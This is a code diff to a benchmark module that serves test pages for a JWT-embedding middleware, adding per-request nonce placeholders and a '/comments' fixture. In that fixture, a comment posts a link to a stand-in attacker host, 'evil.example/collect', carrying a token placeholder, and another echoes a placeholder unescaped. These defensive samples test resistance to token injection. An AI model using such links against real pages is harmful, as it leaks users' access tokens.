@@ -8,15 +8,27 @@ front of; they import FastAPI only when called, so this module (and the runner t
 pages from it) loads without FastAPI installed. ``serving_wsgi_app`` serves the same routes from
 Flask, for gunicorn.
 
+**The app writes its own placeholders, per request.** Only a placeholder carrying the request's nonce
+is filled, so a page cannot be prebuilt with ``<JWT_TOKEN:…>`` in it: each page is a :class:`Page`,
+fixed bytes around slots, and the wrapped app fills each slot for each request with the helper users
+call (``embed_placeholder(scope_or_request, name)``, the README's FastAPI quick start). The raw app has
+no middleware, hence no nonce: it fills the slots with a stand-in of the same length
+(``<JWT_TOKEN:name:000…>``), so both sides assemble and send the same number of bytes and the ratio is
+the middleware's cost, the helper's included. Views assemble bytes rather than render a template: a
+template engine would add the same cost to both sides and only dilute the ratio.
+
 Routes, identical in every app:
 
-* ``/page``: a ~2 KB HTML page with one ``<JWT_TOKEN>`` placeholder, sent in one body message with
+* ``/page``: a ~2 KB HTML page with one placeholder (``top_airlines``), sent in one body message with
   its ``Content-Length``; the app marks the tenant the way a Starlette view would
   (``request.state.embed_tenant``, i.e. ``scope["state"]["embed_tenant"]``).
-* ``/page5``: the same size of page with five named placeholders (``<JWT_TOKEN:kpis>`` ...), a
-  dashboard of five charts: five tokens minted per request.
-* ``/plain``: the same size of HTML page without a placeholder, which the middleware must scan and
-  then send unchanged.
+* ``/page5``: the same size of page with five named placeholders (``kpis`` ...), a dashboard of five
+  charts: five tokens minted per request.
+* ``/plain``: the same size of HTML page without a placeholder. Its app never asks for the nonce, so
+  the middleware knows the page cannot hold one of the app's and does not scan it.
+* ``/comments``: a ~4 KB page with user content, what a forum or a dashboard with comments looks like:
+  four comments carry placeholder-like text as it reaches a page (autoescaped, percent-encoded in a
+  posted link, and one echoed unescaped), plus the app's own chart. One token; the rest left as typed.
 * ``/data``: a small JSON document, which the middleware must hand on untouched.
 * anything else: 404, plain text.
 
@@ -27,9 +39,11 @@ Routes, identical in every app:
 # globals, and the FastAPI names here are imported inside the factory, so they must be real objects.
 import json
 from collections.abc import Awaitable, Callable, MutableMapping, Sequence
+from dataclasses import dataclass
 from typing import Any
 
-from embed_middleware import EmbedASGIMiddleware, TokenIssuer, from_environ
+from embed_middleware import EmbedASGIMiddleware, TokenIssuer, embed_placeholder, from_environ
+from embed_middleware.rewrite import NONCE_LENGTH
 
 from .rewriting import filler
 
@@ -37,44 +51,107 @@ Scope = MutableMapping[str, Any]
 Message = MutableMapping[str, Any]
 Receive = Callable[[], Awaitable[Message]]
 Send = Callable[[Message], Awaitable[None]]
+ASGIApp = Callable[[Scope, Receive, Send], Awaitable[None]]
+#: ``(environ, scope or request, resource) -> placeholder``: how an app writes a slot for one request.
+Writer = Callable[[Any, str], str]
 
 SIGNING_KEY = "x" * 48
 TENANT = "acme"
 PAGE_PATH = "/page"
 PAGE5_PATH = "/page5"
 PLAIN_PATH = "/plain"
+COMMENTS_PATH = "/comments"
 JSON_PATH = "/data"
 PAGE_BYTES = 2048
-PLACEHOLDER = b"<JWT_TOKEN>"
+COMMENTS_BYTES = 4096
+RESOURCE = "top_airlines"
 #: The charts of the five-placeholder page, in page order; each gets its own token.
 NAMES = ("kpis", "top_airlines", "routes", "delays", "map")
-NAMED_PLACEHOLDERS = tuple(b"<JWT_TOKEN:" + name.encode() + b">" for name in NAMES)
+#: The issuer's allowlist (``TokenIssuer(resources=...)``), which the middleware requires.
+RESOURCES = NAMES
 HTML = "text/html; charset=utf-8"
 JSON = "application/json"
 
 _TAIL = b"</table></body></html>\n"
+#: Placeholder-like text from users, as it arrives in the page: typed into a comment and autoescaped,
+#: in a link a user posted, quoted from the docs, and a display name echoed without escaping (the
+#: case the nonce exists for). Each is a candidate the engine finds; none carries the nonce.
+USER_PLACEHOLDERS = (
+    b"&lt;JWT_TOKEN:top_airlines&gt;",
+    b"%3CJWT_TOKEN%3E",
+    b"&lt;JWT_TOKEN&gt;",
+    b"<JWT_TOKEN:kpis>",
+)
+COMMENTS = (
+    b'<section class="comments"><h2>Comments (4)</h2>\n'
+    b'<article class="comment"><h3>ana</h3><p>How do I embed this chart in my wiki? I pasted '
+    b"&lt;JWT_TOKEN:top_airlines&gt; into the page and nothing happened.</p></article>\n"
+    b'<article class="comment"><h3>bo</h3><p>Try <a href="https://evil.example/collect?t=%3CJWT_TOKEN%3E" '
+    b'rel="nofollow ugc">this guide</a>, it worked for me.</p></article>\n'
+    b'<article class="comment"><h3>cy</h3><p>The docs say to write &lt;JWT_TOKEN&gt; where the token '
+    b"goes, but that is for the app, not for comments.</p></article>\n"
+    b'<article class="comment"><h3><JWT_TOKEN:kpis></h3><p>Delays look better this week.</p></article>\n'
+    b"</section>\n"
+)
+
+
+def stand_in(name: str) -> str:
+    """What the raw app writes in a slot: a placeholder's length and spelling, without a nonce."""
+    return f"<JWT_TOKEN:{name}:{'0' * NONCE_LENGTH}>"
+
+
+_STAND_INS = {name: stand_in(name) for name in RESOURCES}
+
+
+def write_stand_in(holder: Any, name: str) -> str:
+    """The raw apps' writer (a dictionary look-up: the least a slot can cost)."""
+    return _STAND_INS[name]
+
+
+@dataclass(frozen=True)
+class Page:
+    """A response body as its template: ``parts`` around one slot per name in ``names``."""
+
+    parts: tuple[bytes, ...]
+    names: tuple[str, ...] = ()
+
+    def render(self, write: Writer, holder: Any) -> bytes:
+        """The body for one request, each slot written by ``write(holder, name)``."""
+        if not self.names:
+            return self.parts[0]  # no slot: the app never asks for the nonce
+        pieces = [self.parts[0]]
+        for name, part in zip(self.names, self.parts[1:], strict=True):
+            pieces += [write(holder, name).encode("ascii"), part]
+        return b"".join(pieces)
 
 
 def _snippet(placeholder: bytes) -> bytes:
     return b'<iframe src="https://charts.example/embed?token=' + placeholder + b'"></iframe>\n'
 
 
-def _page(placeholders: Sequence[bytes]) -> bytes:
-    """``PAGE_BYTES`` of HTML with one embed per placeholder, between table rows and spread evenly
-    through the page, as in a dashboard (a single one sits near the middle)."""
-    snippets = [_snippet(placeholder) for placeholder in placeholders]
-    body = filler(PAGE_BYTES - sum(map(len, snippets)) - len(_TAIL))
-    parts, start = [], 0
+def _page(names: Sequence[str], size: int = PAGE_BYTES, extra: bytes = b"") -> Page:
+    """``size`` bytes of HTML with one embed per name, between table rows and spread evenly through the
+    page, as in a dashboard (a single one sits near the middle); ``extra`` goes just before the end."""
+    slots = [stand_in(name).encode() for name in names]
+    snippets = [_snippet(slot) for slot in slots]
+    body = filler(size - sum(map(len, snippets)) - len(extra) - len(_TAIL))
+    pieces, start = [], 0
     for index, snippet in enumerate(snippets):
         cut = body.rindex(b"\n", 0, (index + 1) * len(body) // (len(snippets) + 1)) + 1
-        parts += [body[start:cut], snippet]
+        pieces += [body[start:cut], snippet]
         start = cut
-    return b"".join([*parts, body[start:], _TAIL])
+    whole = b"".join([*pieces, body[start:], extra, _TAIL])
+    parts, rest = [], whole
+    for slot in slots:  # cut the page at each slot: the app writes it per request
+        before, _, rest = rest.partition(slot)
+        parts.append(before)
+    return Page((*parts, rest), tuple(names))
 
 
-PAGE = _page([PLACEHOLDER])
-PAGE5 = _page(NAMED_PLACEHOLDERS)
+PAGE = _page([RESOURCE])
+PAGE5 = _page(NAMES)
 PLAIN = _page([])
+COMMENTS_PAGE = _page([RESOURCE], COMMENTS_BYTES, COMMENTS)
 JSON_BODY = json.dumps(
     {
         "tenant": TENANT,
@@ -83,23 +160,40 @@ JSON_BODY = json.dumps(
     },
     separators=(",", ":"),
 ).encode()
-#: Path -> (content type, body, whether the app marks the tenant): what every app serves.
-ROUTES: dict[str, tuple[str, bytes, bool]] = {
-    PAGE_PATH: (HTML, PAGE, True),
-    PAGE5_PATH: (HTML, PAGE5, True),
-    PLAIN_PATH: (HTML, PLAIN, True),
-    JSON_PATH: (JSON, JSON_BODY, False),
+
+
+@dataclass(frozen=True)
+class Route:
+    content_type: str
+    page: Page
+    #: Whether the view marks the request's tenant (the pages that may carry a token).
+    mark: bool
+
+
+#: Path -> what every app serves there.
+ROUTES: dict[str, Route] = {
+    PAGE_PATH: Route(HTML, PAGE, True),
+    PAGE5_PATH: Route(HTML, PAGE5, True),
+    PLAIN_PATH: Route(HTML, PLAIN, True),
+    COMMENTS_PATH: Route(HTML, COMMENTS_PAGE, True),
+    JSON_PATH: Route(JSON, Page((JSON_BODY,)), False),
 }
 _NOT_FOUND = b"not found\n"
 
 
-def _headers(content_type: str, body: bytes) -> list[tuple[bytes, bytes]]:
-    return [(b"content-type", content_type.encode()), (b"content-length", str(len(body)).encode("ascii"))]
+def _headers(content_type: str, length: int) -> list[tuple[bytes, bytes]]:
+    return [(b"content-type", content_type.encode()), (b"content-length", str(length).encode("ascii"))]
 
 
-#: Prebuilt once, so that the raw app costs as little as an app can.
-_RESPONSES = {path: (_headers(kind, body), body, mark) for path, (kind, body, mark) in ROUTES.items()}
-_NOT_FOUND_RESPONSE = (_headers("text/plain; charset=utf-8", _NOT_FOUND), _NOT_FOUND, False)
+def _length(page: Page) -> int:
+    """Every request's body has the same length: a nonce and its stand-in are equally long."""
+    return len(page.render(write_stand_in, None))
+
+
+#: Headers prebuilt once, so that the raw app costs as little as an app can.
+_RESPONSES = {path: (_headers(r.content_type, _length(r.page)), r) for path, r in ROUTES.items()}
+_NOT_FOUND_ROUTE = Route("text/plain; charset=utf-8", Page((_NOT_FOUND,)), False)
+_NOT_FOUND_RESPONSE = (_headers(_NOT_FOUND_ROUTE.content_type, len(_NOT_FOUND)), _NOT_FOUND_ROUTE)
 
 
 async def _lifespan(receive: Receive, send: Send) -> None:
@@ -112,22 +206,35 @@ async def _lifespan(receive: Receive, send: Send) -> None:
             return
 
 
-async def raw(scope: Scope, receive: Receive, send: Send) -> None:
-    """The app without the middleware: the floor of the bare-ASGI rows."""
-    if scope["type"] == "lifespan":
-        await _lifespan(receive, send)
-        return
-    if scope["type"] != "http":
-        return
-    headers, body, mark = _RESPONSES.get(scope["path"], _NOT_FOUND_RESPONSE)
-    if mark:
-        scope.setdefault("state", {})["embed_tenant"] = TENANT
-    status = 404 if body is _NOT_FOUND else 200
-    await send({"type": "http.response.start", "status": status, "headers": list(headers)})
-    await send({"type": "http.response.body", "body": body, "more_body": False})
+def bare_app(write: Writer) -> ASGIApp:
+    """The routes as a bare ASGI app whose slots ``write`` fills, for each request."""
+
+    async def app(scope: Scope, receive: Receive, send: Send) -> None:
+        if scope["type"] == "lifespan":
+            await _lifespan(receive, send)
+            return
+        if scope["type"] != "http":
+            return
+        headers, route = _RESPONSES.get(scope["path"], _NOT_FOUND_RESPONSE)
+        if route.mark:
+            scope.setdefault("state", {})["embed_tenant"] = TENANT
+        body = route.page.render(write, scope)
+        status = 404 if route is _NOT_FOUND_ROUTE else 200
+        await send({"type": "http.response.start", "status": status, "headers": list(headers)})
+        await send({"type": "http.response.body", "body": body, "more_body": False})
+
+    return app
 
 
-wrapped = EmbedASGIMiddleware(raw, issuer=TokenIssuer(SIGNING_KEY), resolver=from_environ())
+def issuer() -> TokenIssuer:
+    """What users configure: the key and the charts pages may embed."""
+    return TokenIssuer(SIGNING_KEY, resources=RESOURCES)
+
+
+#: The app without the middleware: the floor of the bare-ASGI rows.
+raw = bare_app(write_stand_in)
+#: The same routes writing their placeholders with ``embed_placeholder(scope, name)``, wrapped.
+wrapped = EmbedASGIMiddleware(bare_app(embed_placeholder), issuer=issuer(), resolver=from_environ())
 
 
 def _fastapi_app(*, embed: bool) -> Any:
@@ -135,19 +242,20 @@ def _fastapi_app(*, embed: bool) -> Any:
     from fastapi import FastAPI, Request, Response
 
     app = FastAPI()
+    write = embed_placeholder if embed else write_stand_in
 
-    def route(path: str, content_type: str, body: bytes, mark: bool) -> None:
+    def route(path: str, content_type: str, page: Page, mark: bool) -> None:
         async def view(request: Request) -> Response:
             if mark:
                 request.state.embed_tenant = TENANT
-            return Response(body, media_type=content_type)
+            return Response(page.render(write, request), media_type=content_type)
 
         app.add_api_route(path, view, methods=["GET"], name=path)
 
-    for path, (content_type, body, mark) in ROUTES.items():
-        route(path, content_type, body, mark)
+    for path, served in ROUTES.items():
+        route(path, served.content_type, served.page, served.mark)
     if embed:
-        app.add_middleware(EmbedASGIMiddleware, issuer=TokenIssuer(SIGNING_KEY), resolver=from_environ())
+        app.add_middleware(EmbedASGIMiddleware, issuer=issuer(), resolver=from_environ())
     return app
 
 
